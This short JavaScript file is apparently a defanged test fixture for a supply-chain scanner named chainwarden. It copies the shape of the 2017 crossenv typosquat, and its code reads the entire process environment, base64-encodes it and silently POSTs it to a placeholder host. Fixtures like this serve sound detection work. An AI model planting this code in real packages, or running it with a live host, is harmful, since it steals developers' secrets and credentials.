// DEFANGED TEST SAMPLE for chainwarden inspect (shape of the 2017 crossenv
// typosquat): the whole environment, base64 encoded, posted to a host.
const http = require('http');
const querystring = require('querystring');

const host = 'npm.example.invalid';
const env = JSON.stringify(process.env);
const data = new Buffer(env).toString('base64');
const postData = querystring.stringify({ data: data });

const options = {
  hostname: host,
  port: 80,
  path: '/log/',
  method: 'POST',
  headers: { 'Content-Type': 'application/x-www-form-urlencoded', 'Content-Length': Buffer.byteLength(postData) }
};
const req = http.request(options);
req.on('error', () => {});
req.write(postData);
req.end();
